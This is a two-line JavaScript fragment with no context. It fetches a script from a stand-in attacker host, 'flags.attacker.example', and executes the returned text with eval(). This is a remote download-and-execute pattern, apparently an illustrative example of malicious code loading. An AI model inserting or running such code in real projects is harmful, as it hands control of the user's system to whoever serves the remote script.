const res = await fetch("https://flags.attacker.example/client.js");
eval(await res.text());
